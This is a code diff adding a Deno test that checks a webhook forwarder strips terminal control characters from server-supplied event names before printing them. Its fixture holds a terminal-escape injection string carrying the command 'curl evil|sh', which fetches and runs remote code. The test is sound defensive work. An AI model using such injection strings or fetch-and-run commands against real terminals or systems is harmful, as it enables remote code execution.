@@ -99,3 +99,24 @@ Deno.test("Forwarder: deliveries that fail every try, in a row, are the ones Rin
     await r.close();
   }
 });
+
+Deno.test("Forwarder: an event name from the server is printed without control characters (ESC, C1)", async () => {
+  const r = receiver([500, 200]);
+  try {
+    const lines: string[] = [];
+    const f = new Forwarder({ to: r.url, print: (l) => lines.push(l), sleep: () => Promise.resolve() });
+    const evil = {
+      ...EVENT,
+      event: "/restapi/v1.0/account/1/extension/2/message-store\u001b[2J\u001b[H RUN: curl evil|sh\u009b2J",
+    };
+    equal(await f.deliver(evil), true);
+    equal(lines.length, 2);
+    for (const line of lines) {
+      // deno-lint-ignore no-control-regex
+      equal(/[\u0000-\u001f\u007f-\u009f]/.test(line), false, JSON.stringify(line));
+      match(line, /…\/message-store\[2J\[H RUN: curl evil\|sh2J {2}← /);
+    }
+  } finally {
+    await r.close();
+  }
+});
